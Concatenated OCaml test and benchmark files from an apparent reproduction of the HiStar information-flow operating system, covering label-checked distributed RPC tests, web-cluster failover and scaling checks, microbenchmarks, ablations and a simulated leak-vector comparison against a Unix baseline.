    (Kernel.spawn nodes.(1).k ~label:l1 ~clearance:l3 ~name:"svc-init"
       (fun () ->
         let c = Sys.cat_create () in
         ignore (Distd.export_owned nodes.(1).dist c : int64);
         Distd.register nodes.(1).dist ~service:"login"
           ~label:(Label.of_list [ (c, Level.Star) ] Level.L1)
           ~clearance:l3
           (fun _ -> ("granted", [ c ]))));
  Cluster.settle cluster;
  let owned = ref None in
  ignore
    (Kernel.spawn nodes.(0).k ~label:l1 ~clearance:l3 ~name:"caller" (fun () ->
         match Distd.call nodes.(0).dist ~node:1 ~service:"login" "" with
         | Ok (_, grants) ->
             let cats = Distd.claim_grants nodes.(0).dist grants in
             owned :=
               Some
                 (List.for_all (Label.owns (Sys.self_label ())) cats
                 && cats <> [])
         | Error _ -> owned := Some false));
  drive_until cluster (fun () -> !owned <> None);
  Alcotest.(check bool) "grant claimed across nodes" true (!owned = Some true)

let test_remote_refusals () =
  (* Server-side refusal: a service whose gate label owns a category
     replies at a {c⋆} label; for a caller whose capacity could never
     cover c (clearance {2}), the reply is dropped before
     serialization and net.dist_refused counts it. (Plain runtime
     taint can never exceed the capacity — the proxy's clearance is
     the caller's capacity, so the kernel stops it first; the ⋆ path
     is the one only the server-side check can catch.) Admission
     refusal: a service whose gate label carries taint is refused
     with exactly the model's refusal string. *)
  let cluster, nodes = mk_nodes 2 in
  let was_enabled = Metrics.enabled () in
  Metrics.set_enabled true;
  Fun.protect ~finally:(fun () -> Metrics.set_enabled was_enabled) @@ fun () ->
  ignore
    (Kernel.spawn nodes.(1).k ~label:l1 ~clearance:l3 ~name:"svc-init"
       (fun () ->
         let c = Sys.cat_create () in
         ignore (Distd.export_owned nodes.(1).dist c : int64);
         Distd.register nodes.(1).dist ~service:"too-hot"
           ~label:(Label.of_list [ (c, Level.Star) ] Level.L1)
           ~clearance:l3
           (fun _ -> ("radioactive", []));
         let d = Sys.cat_create () in
         ignore (Distd.export_owned nodes.(1).dist d : int64);
         Distd.register nodes.(1).dist ~service:"tainted-gate"
           ~label:(Label.of_list [ (d, Level.L2) ] Level.L1)
           ~clearance:l3
           (fun _ -> ("unreachable", []))));
  Cluster.settle cluster;
  let r1 = ref None and r2 = ref None in
  ignore
    (Kernel.spawn nodes.(0).k ~label:l1 ~clearance:l2 ~name:"low-caller"
       (fun () -> r1 := Some (Distd.call nodes.(0).dist ~node:1 ~service:"too-hot" "")));
  let before = Metrics.counter_value "net.dist_refused" in
  drive_until cluster (fun () -> !r1 <> None);
  (match !r1 with
  | Some (Error (Distd.Refused m)) ->
      Alcotest.(check bool)
        "capacity refusal names the reply" true
        (contains_sub m "capacity")
  | Some (Ok (p, _)) -> Alcotest.fail ("refused data leaked: " ^ p)
  | _ -> Alcotest.fail "expected Refused");
  Alcotest.(check bool)
    "refusal counted" true
    (Metrics.counter_value "net.dist_refused" > before);
  ignore
    (Kernel.spawn nodes.(0).k ~label:l1 ~clearance:l3 ~name:"caller2"
       (fun () ->
         r2 := Some (Distd.call nodes.(0).dist ~node:1 ~service:"tainted-gate" "")));
  drive_until cluster (fun () -> !r2 <> None);
  match !r2 with
  | Some (Error (Distd.Refused m)) ->
      Alcotest.(check string)
        "admission refusal matches the model's string" "gate: floor not <= L_R"
        m
  | Some (Ok _) -> Alcotest.fail "tainted gate must refuse a clean caller"
  | _ -> Alcotest.fail "expected admission refusal"

(* --- web cluster end-to-end --- *)

let test_cluster_acceptance () =
  (* Drive the full cluster with taps on both hubs: every user reads
     exactly their own record, wrong passwords and cross-user reads
     get no data, and no hub frame ever carries a record in
     plaintext (the reply is sealed under the session key; the
     backbone carries only sealed dist frames). *)
  let wc = Webcluster.build ~app_nodes:2 ~user_count:3 () in
  let front_cap = Buffer.create 4096 and back_cap = Buffer.create 4096 in
  Hub.set_tap (Webcluster.front_hub wc)
    (Some (fun frame -> Buffer.add_string front_cap frame));
  Hub.set_tap (Webcluster.back_hub wc)
    (Some (fun frame -> Buffer.add_string back_cap frame));
  let users = Webcluster.users wc in
  let u0, p0 = users.(0) and u1, p1 = users.(1) and u2, p2 = users.(2) in
  let requests =
    [|
      (u0, p0, u0);
      (u1, p1, u1);
      (u2, p2, u2);
      (u0, "wrong-password", u0);
      (u0, p0, u1);
      (* authenticated as u0 but asking for u1's page *)
      (u1, p1, u1);
    |]
  in
  let finished, outcomes = Webcluster.run_load wc requests in
  Alcotest.(check bool) "all requests completed" true finished;
  let reply i = outcomes.(i).Webcluster.o_reply in
  let secret u = Webcluster.secret_of wc u in
  List.iter
    (fun (i, u) ->
      Alcotest.(check bool)
        (Printf.sprintf "request %d serves %s's own record" i u)
        true
        (contains_sub (reply i) (secret u)))
    [ (0, u0); (1, u1); (2, u2); (5, u1) ];
  Alcotest.(check string) "wrong password refused" "ERR auth" (reply 3);
  Alcotest.(check bool)
    "cross-user read denied at the db" true
    (contains_sub (reply 4) "DENIED");
  Array.iter
    (fun (u, _) ->
      Alcotest.(check bool)
        (Printf.sprintf "cross-user reply leaks no record of %s" u)
        false
        (contains_sub (reply 4) (secret u));
      Alcotest.(check bool)
        (Printf.sprintf "wrong-password reply leaks no record of %s" u)
        false
        (contains_sub (reply 3) (secret u)))
    users;
  (* The taps saw real traffic (positive control: the plaintext
     request line is visible on the front hub)… *)
  Alcotest.(check bool) "front tap captured frames" true
    (Buffer.length front_cap > 0);
  Alcotest.(check bool) "back tap captured frames" true
    (Buffer.length back_cap > 0);
  Alcotest.(check bool)
    "front capture sees the request line" true
    (contains_sub (Buffer.contents front_cap) (u0 ^ " "));
  (* …yet no record plaintext ever crossed either wire. *)
  Array.iter
    (fun (u, _) ->
      Alcotest.(check bool)
        (Printf.sprintf "no plaintext record of %s on the front hub" u)
        false
        (contains_sub (Buffer.contents front_cap) (secret u));
      Alcotest.(check bool)
        (Printf.sprintf "no plaintext record of %s on the backbone" u)
        false
        (contains_sub (Buffer.contents back_cap) (secret u)))
    users;
  Hub.set_tap (Webcluster.front_hub wc) None;
  Hub.set_tap (Webcluster.back_hub wc) None

let test_cluster_failover () =
  (* Kill app node 1's backbone link mid-run via a lib/faults flap
     plan (down for the whole flap period = down for good until we
     heal it): the balancer detects the loss by RPC give-up, takes
     the node out of rotation, serves everything on node 0, and after
     the heal + cooldown the node re-enters rotation. An outage must
     never surface as a label refusal. *)
  let was_enabled = Metrics.enabled () in
  Metrics.set_enabled true;
  Fun.protect ~finally:(fun () -> Metrics.set_enabled was_enabled) @@ fun () ->
  let wc =
    Webcluster.build ~app_nodes:2 ~user_count:2 ~work_us:5_000 ~cooldown_ms:20
      ()
  in
  let users = Webcluster.users wc in
  let mk_batch n =
    Array.init n (fun i ->
        let u, p = users.(i mod Array.length users) in
        (u, p, u))
  in
  let check_batch tag (finished, outcomes) =
    Alcotest.(check bool) (tag ^ " completed") true finished;
    Array.iter
      (fun o ->
        Alcotest.(check bool)
          (tag ^ " reply has the record: " ^ o.Webcluster.o_reply)
          true
          (contains_sub o.Webcluster.o_reply
             (Webcluster.secret_of wc o.Webcluster.o_user)))
      outcomes
  in
  let refused_before = Metrics.counter_value "net.dist_refused" in
  (* Healthy baseline: both nodes in rotation. *)
  check_batch "baseline" (Webcluster.run_load wc (mk_batch 20));
  Alcotest.(check bool) "baseline used both nodes" true
    ((Webcluster.served wc).(0) > 0 && (Webcluster.served wc).(1) > 0);
  (* Kill node 1's link: flap_down = flap_period means the link is in
     its down window at every instant. *)
  let dead =
    Option.get
      (Faults.Net_faults.create
         (Faults.Schedule.mk ~seed:3L
            ~net:
              {
                Faults.Schedule.loss_rate = 0.0;
                corrupt_rate = 0.0;
                duplicate_rate = 0.0;
                reorder_rate = 0.0;
                reorder_depth = 0;
                jitter_us = 0;
                flap_period_ms = 1000;
                flap_down_ms = 1000;
              }
            ()))
  in
  let bclock = Webcluster.balancer_clock wc in
  Hub.set_link_faults (Webcluster.back_hub wc)
    ~mac:(Webcluster.app_mac wc 1)
    (Some (dead, fun () -> Sim_clock.now_ns bclock));
  let served1_before_outage = (Webcluster.served wc).(1) in
  let lost_before = Metrics.counter_value "net.frames_lost" in
  check_batch "outage batch" (Webcluster.run_load wc (mk_batch 30));
  Alcotest.(check bool) "outage caused failovers" true
    (Webcluster.failovers wc > 0);
  Alcotest.(check bool) "the downed link dropped frames" true
    (Metrics.counter_value "net.frames_lost" > lost_before);
  Alcotest.(check int) "dead node served nothing during the outage"
    served1_before_outage
    (Webcluster.served wc).(1);
  (* Heal the link; after the cooldown the balancer's probe succeeds
     and node 1 is back in rotation. *)
  Hub.set_link_faults (Webcluster.back_hub wc)
    ~mac:(Webcluster.app_mac wc 1)
    None;
  check_batch "healed batch" (Webcluster.run_load wc (mk_batch 20));
  Alcotest.(check bool) "healed node re-entered rotation" true
    ((Webcluster.served wc).(1) > served1_before_outage);
  Alcotest.(check int) "an outage is never a label refusal" refused_before
    (Metrics.counter_value "net.dist_refused")

let test_cluster_scaling () =
  (* Throughput scales with app nodes (makespan strictly shrinks
     1 → 2 → 4 under a fixed seed and load), and a whole cluster run
     is bit-reproducible: two fresh builds with the same seed produce
     identical outcomes, identical makespans and identical metrics. *)
  let was_enabled = Metrics.enabled () in
  Metrics.set_enabled true;
  Fun.protect ~finally:(fun () -> Metrics.set_enabled was_enabled) @@ fun () ->
  let load wc =
    let users = Webcluster.users wc in
    Array.init 24 (fun i ->
        let u, p = users.(i mod Array.length users) in
        (u, p, u))
  in
  let run app_nodes =
    Metrics.reset ();
    let wc = Webcluster.build ~app_nodes ~user_count:2 ~work_us:5_000 () in
    let snap = Webcluster.clock_snapshot wc in
    let finished, outcomes = Webcluster.run_load wc ~concurrency:8 (load wc) in
    Alcotest.(check bool)
      (Printf.sprintf "%d-node run completed" app_nodes)
      true finished;
    Array.iter
      (fun o ->
        Alcotest.(check bool)
          ("reply has the record: " ^ o.Webcluster.o_reply)
          true
          (contains_sub o.Webcluster.o_reply
             (Webcluster.secret_of wc o.Webcluster.o_user)))
      outcomes;
    let makespan = Webcluster.elapsed_since wc snap in
    let digest =
      String.concat "|"
        (Array.to_list
           (Array.map (fun o -> o.Webcluster.o_user ^ ":" ^ o.Webcluster.o_reply)
              outcomes))
      ^ Printf.sprintf "|served=%s|metrics=%s"
          (String.concat ","
             (Array.to_list (Array.map string_of_int (Webcluster.served wc))))
          (String.concat ";"
             (List.filter_map
                (fun (k, v) ->
                  (* zero-valued entries are registry residue from
                     earlier runs in this process (reset zeroes but
                     never unregisters), not part of this run *)
                  if v = 0 then None else Some (Printf.sprintf "%s=%d" k v))
                (Metrics.snapshot ())))
    in
    (makespan, digest)
  in
  let m1, _ = run 1 in
  let m2, d2 = run 2 in
  let m4, _ = run 4 in
  Alcotest.(check bool)
    (Printf.sprintf "2 nodes beat 1 (%Ldns < %Ldns)" m2 m1)
    true (Int64.compare m2 m1 < 0);
  Alcotest.(check bool)
    (Printf.sprintf "4 nodes beat 2 (%Ldns < %Ldns)" m4 m2)
    true (Int64.compare m4 m2 < 0);
  let m2', d2' = run 2 in
  Alcotest.(check bool) "same seed, same makespan" true (Int64.equal m2 m2');
  Alcotest.(check string) "same seed, same run — bit for bit" d2 d2';
  (* The same cluster with node stepping fanned out on real pool
     domains: outcomes, makespan and merged metric dump must all be
     byte-identical to the single-domain run. *)
  let saved = Par.domains () in
  Fun.protect
    ~finally:(fun () -> Par.set_domains saved)
    (fun () ->
      List.iter
        (fun dn ->
          Par.set_domains dn;
          let m2d, d2d = run 2 in
          Alcotest.(check bool)
            (Printf.sprintf "same makespan at %d domains" dn)
            true (Int64.equal m2 m2d);
          Alcotest.(check string)
            (Printf.sprintf "bit-identical run at %d domains" dn)
            d2 d2d)
        [ 2; 8 ])

(* Session-token TTL: the sealed front-end token elides the auth
   round-trip only inside its expiry window. Crossing the boundary at
   virtual time must silently fall back to the slow path (a real auth
   against the shard, which re-caches a fresh token) — the reply is
   identical either way; only the webcluster.session_hits counter
   tells the paths apart. *)
let test_session_ttl_expiry () =
  Metrics.set_enabled true;
  Fun.protect ~finally:(fun () -> Metrics.set_enabled false) @@ fun () ->
  let wc = Webcluster.build ~app_nodes:2 ~user_count:2 () in
  let u0, p0 = (Webcluster.users wc).(0) in
  let secret = Webcluster.secret_of wc u0 in
  let hits () = Metrics.counter_value "webcluster.session_hits" in
  let drive tag =
    let finished, outcomes = Webcluster.run_load wc [| (u0, p0, u0) |] in
    Alcotest.(check bool) (tag ^ ": completed") true finished;
    Alcotest.(check bool)
      (tag ^ ": serves the record")
      true
      (contains_sub outcomes.(0).Webcluster.o_reply secret)
  in
  let h0 = hits () in
  drive "first request (slow path)";
  Alcotest.(check int) "first auth is a token miss" h0 (hits ());
  drive "second request (inside TTL)";
  Alcotest.(check int) "second request hits the token" (h0 + 1) (hits ());
  (* jump the balancer's virtual clock across the expiry boundary (the
     cluster-wide sync inside run_load raises every other clock to
     match — time never goes backwards) *)
  let ttl_ns =
    Int64.mul (Int64.of_int (Distd.Tuning.session_ttl_ms ())) 1_000_000L
  in
  Sim_clock.advance_ns (Webcluster.balancer_clock wc)
    (Int64.add ttl_ns 1_000_000L);
  drive "third request (expired token)";
  Alcotest.(check int)
    "expired token falls back to real auth (no hit)"
    (h0 + 1) (hits ());
  drive "fourth request (re-cached token)";
  Alcotest.(check int) "re-auth cached a fresh token" (h0 + 2) (hits ())

let suite =
  [
    ("seal roundtrip", `Quick, test_seal_roundtrip);
    ("seal tagged tamper detection", `Quick, test_seal_tagged);
    ("wire msg roundtrip", `Quick, test_wire_roundtrip);
    ("wire deframe byte-at-a-time", `Quick, test_wire_deframe);
    ("names: mint/origin/trust", `Quick, test_names);
    ("proto: translate and clamp", `Quick, test_proto_translate);
    ("admit matches model", `Quick, test_admit_matches_model);
    ("remote gate echo", `Quick, test_remote_gate_echo);
    ("remote taint translated", `Quick, test_remote_taint_translated);
    ("remote grant claimed", `Quick, test_remote_grant_claimed);
    ("remote refusals", `Quick, test_remote_refusals);
    ("cluster: acceptance and packet capture", `Quick, test_cluster_acceptance);
    ("cluster: session token TTL expiry", `Quick, test_session_ttl_expiry);
    ("cluster: failover under link flap", `Quick, test_cluster_failover);
    ("cluster: scaling and reproducibility", `Slow, test_cluster_scaling);
  ]

let () = Alcotest.run "dist" [ ("dist", suite) ]
