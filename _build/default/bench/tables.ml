(* The §4.1 code-size inventory (for this reproduction) and the §1
   attack matrix comparing HiStar against the Unix baseline. *)

open Harness
module Unixsim = Histar_baseline.Unixsim

(* ---------- code size (§4.1) ---------- *)

let count_lines path =
  try
    let ic = open_in path in
    let n = ref 0 in
    (try
       while true do
         ignore (input_line ic);
         incr n
       done
     with End_of_file -> ());
    close_in ic;
    !n
  with Sys_error _ -> 0

let rec find_lib_dir candidates =
  match candidates with
  | [] -> None
  | c :: rest ->
      if Stdlib.Sys.file_exists (Filename.concat c "lib") then
        Some (Filename.concat c "lib")
      else find_lib_dir rest

let dir_loc dir =
  match Stdlib.Sys.readdir dir with
  | files ->
      Array.fold_left
        (fun acc f ->
          if Filename.check_suffix f ".ml" || Filename.check_suffix f ".mli"
          then acc + count_lines (Filename.concat dir f)
          else acc)
        0 files
  | exception Sys_error _ -> 0

let codesize () =
  header "Code size (cf. §4.1: the paper's kernel is 15,200 lines of C)";
  match find_lib_dir [ "."; ".."; "../.."; "../../.." ] with
  | None -> print_endline "source tree not found (run from the repository)"
  | Some lib ->
      let components =
        [
          ("label algebra + categories (§2)", [ "label"; "crypto" ]);
          ("kernel: objects, syscalls, sched (§3)", [ "core" ]);
          ("single-level store: B+tree/WAL/alloc (§4)", [ "btree"; "wal"; "store"; "disk" ]);
          ("Unix library (§5)", [ "unixlib" ]);
          ("networking: stack + netd (§5.7)", [ "net" ]);
          ("authentication (§6.2)", [ "auth" ]);
          ("applications: wrap/AV/VPN (§6)", [ "apps" ]);
          ("comparison kernels (§7)", [ "baseline" ]);
          ("support (codec, rng, clock)", [ "util" ]);
        ]
      in
      let total = ref 0 in
      List.iter
        (fun (name, dirs) ->
          let n =
            List.fold_left
              (fun acc d -> acc + dir_loc (Filename.concat lib d))
              0 dirs
          in
          total := !total + n;
          Printf.printf "%-52s %8d lines\n" name n)
        components;
      Printf.printf "%-52s %8d lines\n" "total (lib/)" !total

(* ---------- the attack matrix ---------- *)

let attacks () =
  header "§1 leak vectors: compromised scanner, HiStar vs Unix";
  (* HiStar side: the evil scanner under wrap *)
  let m = mk_machine () in
  let kernel = m.kernel in
  let histar_results = ref [] in
  Histar_apps.Clamav_world.build ~kernel ~network:true ~update_daemon:false ()
    (fun w ->
      let evil ~proc ~db_path ~paths ~result_seg ~spawn_helpers =
        ignore db_path;
        ignore spawn_helpers;
        Histar_apps.Scanner.run_evil ~proc ~paths
          ~attacker_netd:w.Histar_apps.Clamav_world.netd ~result_seg
          ~report:(fun a -> histar_results := a :: !histar_results)
      in
      ignore
        (Histar_apps.Wrap.run ~proc:w.Histar_apps.Clamav_world.proc
           ~user:w.Histar_apps.Clamav_world.bob
           ~db_path:Histar_apps.Clamav_world.db_path
           ~paths:(List.map fst Histar_apps.Clamav_world.user_files)
           ~scanner:evil ()));
  Kernel.run kernel;
  let histar_results = List.rev !histar_results in
  (* Unix side *)
  let clock = Clock.create () in
  let disk = Disk.create ~clock () in
  let u = Unixsim.create Unixsim.Linux ~disk ~clock () in
  let unix_results = Unixsim.attack_surface u ~secret:"bob-agi-123456" in
  Printf.printf "%-24s %18s %18s\n" "leak vector" "HiStar (wrap)" "Unix (DAC)";
  List.iter
    (fun (a : Histar_apps.Scanner.leak_attempt) ->
      let unix_ok =
        match
          List.find_opt
            (fun (l : Unixsim.leak) -> l.Unixsim.channel = a.channel)
            unix_results
        with
        | Some l -> l.Unixsim.succeeded
        | None -> false
      in
      Printf.printf "%-24s %18s %18s\n" a.Histar_apps.Scanner.channel
        (if a.Histar_apps.Scanner.succeeded then "LEAKED" else "blocked")
        (if unix_ok then "LEAKED" else "blocked"))
    histar_results;
  let leaks =
    List.length
      (List.filter (fun a -> a.Histar_apps.Scanner.succeeded) histar_results)
  in
  Printf.printf "\nHiStar blocked %d/%d vectors; Unix leaked %d/%d.\n"
    (List.length histar_results - leaks)
    (List.length histar_results)
    (List.length (List.filter (fun l -> l.Unixsim.succeeded) unix_results))
    (List.length unix_results)
