(* Figure 12, upper half: IPC round-trip, fork/exec, spawn — HiStar
   vs the linuxsim/bsdsim comparison kernels, plus the §7.1 syscall
   counts. *)

open Harness
module Unixsim = Histar_baseline.Unixsim
module Profile = Histar_core.Profile

let ipc_rtts = 2_000

(* One ping-pong setup: returns virtual ns per round trip and syscalls
   per round trip. *)
let histar_ipc () =
  let m = mk_machine () in
  boot m (fun _fs proc ->
      let r1, w1 = Process.pipe proc in
      let r2, w2 = Process.pipe proc in
      let _echo =
        Process.spawn proc ~name:"echo" ~fds:[ r1; w2 ] (fun child ->
            let rec loop () =
              let msg = Process.read child r1 8 in
              if String.length msg > 0 then begin
                ignore (Process.write child w2 msg);
                loop ()
              end
            in
            loop ();
            Process.close child w2)
      in
      (* warm up *)
      ignore (Process.write proc w1 "warmup!!");
      ignore (Process.read proc r2 8);
      let profile = Kernel.profile m.kernel in
      Profile.reset profile;
      let (), ns =
        timed m.clock (fun () ->
            for _ = 1 to ipc_rtts do
              ignore (Process.write proc w1 "8bytemsg");
              ignore (Process.read proc r2 8)
            done)
      in
      Process.close proc w1;
      ( Int64.to_float ns /. float_of_int ipc_rtts,
        float_of_int (Profile.total profile) /. float_of_int ipc_rtts ))

let baseline_ipc flavor =
  let clock = Clock.create () in
  let u = Unixsim.create flavor ~clock () in
  let (), ns =
    timed clock (fun () ->
        for _ = 1 to ipc_rtts do
          Unixsim.pipe_rtt u
        done)
  in
  Int64.to_float ns /. float_of_int ipc_rtts

(* fork/exec and spawn: virtual time and syscalls per full
   create-run-exit-wait cycle of a /bin/true equivalent. *)
let histar_proc ~use_spawn =
  let m = mk_machine () in
  let iters = 30 in
  boot m (fun fs proc ->
      ignore (Fs.mkdir fs "/bin");
      Fs.write_file fs "/bin/true" "#!true";
      (* the launching shell holds stdin/stdout/stderr, which the child
         inherits; fork must copy their descriptor state, spawn only
         links it *)
      Fs.write_file fs "/dev-console" "";
      let fds =
        List.init 3 (fun _ -> Process.open_file proc "/dev-console")
      in
      let one () =
        let h =
          if use_spawn then
            Process.spawn proc ~name:"true" ~fds (fun c -> Process.exit c 0)
          else
            Process.fork_exec proc ~name:"true" ~text:"/bin/true" ~fds
              (fun c -> Process.exit c 0)
        in
        ignore (Process.wait proc h)
      in
      one () (* warmup *);
      let profile = Kernel.profile m.kernel in
      Profile.reset profile;
      let (), ns =
        timed m.clock (fun () ->
            for _ = 1 to iters do
              one ()
            done)
      in
      ( Int64.to_float ns /. float_of_int iters /. 1e6,
        Profile.total profile / iters ))

let baseline_forkexec flavor =
  let clock = Clock.create () in
  let u = Unixsim.create flavor ~clock () in
  let iters = 30 in
  Unixsim.reset_syscall_count u;
  let (), ns =
    timed clock (fun () ->
        for _ = 1 to iters do
          Unixsim.fork_exec_true u
        done)
  in
  (Int64.to_float ns /. float_of_int iters /. 1e6, Unixsim.syscall_count u / iters)

let run () =
  header "Figure 12 (upper): IPC and process-creation microbenchmarks";
  let h_ipc_ns, h_ipc_sc = histar_ipc () in
  let l_ipc = baseline_ipc Unixsim.Linux in
  let b_ipc = baseline_ipc Unixsim.Openbsd in
  row4 "Benchmark" "HiStar" "Linux" "OpenBSD";
  row4 "IPC benchmark, per RTT"
    (fmt_time_us (h_ipc_ns /. 1e3))
    (fmt_time_us (l_ipc /. 1e3))
    (fmt_time_us (b_ipc /. 1e3));
  paper "3.11 µs / 4.32 µs / 2.13 µs";
  Printf.printf "%-38s %12s\n" "  syscalls per RTT (HiStar)"
    (Printf.sprintf "%.0f" h_ipc_sc);
  let fe_ms, fe_sc = histar_proc ~use_spawn:false in
  let sp_ms, sp_sc = histar_proc ~use_spawn:true in
  let l_fe_ms, l_fe_sc = baseline_forkexec Unixsim.Linux in
  let b_fe_ms, b_fe_sc = baseline_forkexec Unixsim.Openbsd in
  row4 "Fork/exec, per iteration" (fmt_time_ms fe_ms) (fmt_time_ms l_fe_ms)
    (fmt_time_ms b_fe_ms);
  paper "1.35 ms / 0.18 ms / 0.18 ms";
  row4 "Spawn, per iteration" (fmt_time_ms sp_ms) na na;
  paper "0.47 ms / — / —";
  header "Table (§7.1): system calls per /bin/true cycle";
  row4 "Path" "HiStar" "Linux" "OpenBSD";
  row4 "fork + exec + exit + wait"
    (string_of_int fe_sc) (string_of_int l_fe_sc) (string_of_int b_fe_sc);
  paper "317 / 9 / 9";
  row4 "spawn + exit + wait" (string_of_int sp_sc) na na;
  paper "127 / — / —";
  Printf.printf
    "\nShape check: spawn uses %.1fx fewer syscalls and is %.1fx faster than\n\
     fork/exec (paper: 2.5x fewer, 2.9x faster).\n"
    (float_of_int fe_sc /. float_of_int sp_sc)
    (fe_ms /. sp_ms)
