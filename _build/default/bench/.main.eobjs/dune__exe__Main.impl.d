bench/main.ml: Ablation Array F12_lfs F12_micro F13_apps List Micro Printf Stdlib String Tables
