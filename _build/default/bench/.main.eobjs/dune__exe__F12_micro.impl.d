bench/f12_micro.ml: Clock Fs Harness Histar_baseline Histar_core Int64 Kernel List Printf Process String
