bench/ablation.ml: Clock Disk Fs Harness Histar_label Kernel List Printf Store String Unix
