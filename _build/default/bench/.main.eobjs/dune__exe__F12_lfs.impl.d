bench/f12_lfs.ml: Clock Disk Float Fs Harness Histar_baseline Histar_util List Printf Process Store String Sys
