bench/main.mli:
