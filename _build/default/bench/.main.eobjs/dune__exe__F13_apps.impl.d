bench/f13_apps.ml: Clock Disk Fs Harness Histar_apps Histar_baseline Histar_core Histar_label Histar_net Histar_util Int64 Kernel Label Level Printexc Printf Process String Sys
