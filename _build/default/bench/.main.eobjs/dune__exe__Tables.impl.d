bench/tables.ml: Array Clock Disk Filename Harness Histar_apps Histar_baseline Kernel List Printf Stdlib
