bench/micro.ml: Analyze Bechamel Benchmark Hashtbl Histar_btree Histar_core Histar_crypto Histar_label Instance Int64 List Measure Printf Staged String Test Time Toolkit
