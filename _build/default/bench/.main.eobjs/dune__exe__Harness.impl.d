bench/harness.ml: Histar_core Histar_disk Histar_label Histar_store Histar_unix Histar_util Int64 Label Level Printf String
