(* Ablations of the design choices the paper calls out:

   1. §7.1 credits HiStar's acceptable fsync performance to queuing
      synchronous updates in the write-ahead log and applying them in
      batches ("about once every 1,000 synchronous operations"). We
      sweep the apply threshold: at 1 every fsync degenerates into a
      whole-system checkpoint; at the paper's 1,000 the log absorbs
      nearly everything.

   2. §6.2 notes that privilege-separating authentication keeps labels
      small, "improving the performance of label operations". We sweep
      label width and measure the wall-clock cost of the ⊑ check that
      every syscall performs.

   3. The disk write barrier is what makes per-file sync expensive; we
      sweep its cost (half-rotation at 7,200/15,000 RPM and an
      NVMe-like near-zero) to show the sync/async gap is a rotational
      artifact, not a HiStar artifact. *)

open Harness
module Label = Histar_label.Label
module Level = Histar_label.Level
module Category = Histar_label.Category

let files = 300

let per_file_sync_time ~apply_threshold ~params =
  let clock = Clock.create () in
  let disk = Disk.create ?params ~clock () in
  let store = Store.format ~disk ~wal_sectors:262_144 ~apply_threshold () in
  let kernel = Kernel.create ~clock ~store ~syscall_cost_ns:120 () in
  let m = { kernel; clock; disk; store } in
  boot m (fun fs _proc ->
      ignore (Fs.mkdir fs "/lfs");
      let (), ns =
        timed m.clock (fun () ->
            for i = 0 to files - 1 do
              let p = Printf.sprintf "/lfs/f%04d" i in
              Fs.write_file fs p (String.make 1024 'd');
              Fs.fsync fs p
            done)
      in
      s_of_ns ns)

let label_check_ns ~cats =
  let mk seed =
    Label.of_list
      (List.init cats (fun i ->
           (Category.of_int ((i * 7919) + seed), Level.of_int ((i + seed) mod 4))))
      Level.L1
  in
  let a = mk 1 and b = mk 2 in
  let iters = 200_000 in
  let t0 = Unix.gettimeofday () in
  for _ = 1 to iters do
    ignore (Label.leq a b)
  done;
  (Unix.gettimeofday () -. t0) /. float_of_int iters *. 1e9

let run () =
  header "Ablation 1: write-ahead-log apply threshold (§7.1 batching)";
  Printf.printf "%-44s %14s\n"
    (Printf.sprintf "per-file sync of %d files, threshold =" files)
    "simulated time";
  List.iter
    (fun threshold ->
      let s = per_file_sync_time ~apply_threshold:threshold ~params:None in
      Printf.printf "%-44d %12.2f s\n" threshold s)
    [ 1; 10; 100; 1000 ];
  print_endline
    "(threshold 1 = checkpoint per fsync; 1000 = the paper's setting)";
  header "Ablation 2: label width vs ⊑ cost (§6.2 'keep labels small')";
  Printf.printf "%-44s %14s\n" "categories in each label" "wall-clock leq";
  List.iter
    (fun cats ->
      Printf.printf "%-44d %11.0f ns\n" cats (label_check_ns ~cats))
    [ 1; 4; 16; 64; 256 ];
  header "Ablation 3: label-comparison cache (§4 'caches the result')";
  (let clock = Clock.create () in
   let disk = Disk.create ~clock () in
   let store = Store.format ~disk ~wal_sectors:65_536 () in
   let kernel = Kernel.create ~clock ~store ~syscall_cost_ns:120 () in
   let m = { kernel; clock; disk; store } in
   boot m (fun fs _proc ->
       ignore (Fs.mkdir fs "/churn");
       for i = 0 to 199 do
         let p = Printf.sprintf "/churn/f%d" (i mod 20) in
         Fs.write_file fs p "x";
         ignore (Fs.read_file fs p)
       done);
   let hits, misses = Kernel.label_cache_stats kernel in
   Printf.printf "fs churn workload: %d hits, %d misses (%.1f%% hit rate)\n"
     hits misses
     (100.0 *. float_of_int hits /. float_of_int (max 1 (hits + misses))));
  header "Ablation 4: barrier cost (the sync gap is rotational)";
  let sweep name rotation_us =
    let params =
      Some { Disk.default_params with Disk.rotation_us }
    in
    let s = per_file_sync_time ~apply_threshold:1000 ~params in
    Printf.printf "%-44s %12.2f s\n" name s
  in
  sweep "7,200 RPM (the paper's drive)" 8_333.0;
  sweep "15,000 RPM" 4_000.0;
  sweep "NVMe-like (no rotation)" 10.0
