(* The benchmark harness: regenerates every table and figure of the
   paper's evaluation (§7) on the simulated substrate, plus the code
   inventory and the §1 attack matrix. See DESIGN.md for the experiment
   index and EXPERIMENTS.md for recorded paper-vs-measured results.

   Usage:
     main.exe                     run everything
     main.exe f12-ipc f13-wget    run selected experiments
     main.exe --quick             smaller workloads
     main.exe --bechamel          wall-clock substrate microbenchmarks *)

let experiments =
  [
    ("f12-ipc", "IPC / fork / exec / spawn microbenchmarks", F12_micro.run);
    ("f12-lfs", "LFS small- and large-file benchmarks", F12_lfs.run);
    ("f13-apps", "kernel build, wget, ClamAV", F13_apps.run);
    ("t-codesize", "code-size inventory (§4.1)", Tables.codesize);
    ("ablation", "design-choice ablations (log batching, label width)", Ablation.run);
    ("sec-attacks", "§1 leak-vector matrix vs Unix", Tables.attacks);
  ]

let aliases =
  [
    ("f12-forkexec", "f12-ipc");
    ("f12-spawn", "f12-ipc");
    ("t-syscalls", "f12-ipc");
    ("f12-lfs-small", "f12-lfs");
    ("f12-lfs-large", "f12-lfs");
    ("f13-build", "f13-apps");
    ("f13-wget", "f13-apps");
    ("f13-clamav", "f13-apps");
  ]

let usage () =
  print_endline "usage: main.exe [--quick] [--bechamel] [experiment ...]";
  print_endline "experiments:";
  List.iter (fun (n, d, _) -> Printf.printf "  %-14s %s\n" n d) experiments;
  List.iter (fun (a, t) -> Printf.printf "  %-14s alias for %s\n" a t) aliases

let set_quick () =
  F12_lfs.files := 200;
  F12_lfs.large_mb := 8;
  F12_lfs.rand_writes := 100;
  F13_apps.build_files := 6;
  F13_apps.wget_mb := 4;
  F13_apps.scan_mb := 2

let () =
  let args = List.tl (Array.to_list Stdlib.Sys.argv) in
  let bechamel = List.mem "--bechamel" args in
  if List.mem "--quick" args then set_quick ();
  if List.mem "--help" args then usage ()
  else begin
    let selected =
      List.filter_map
        (fun a ->
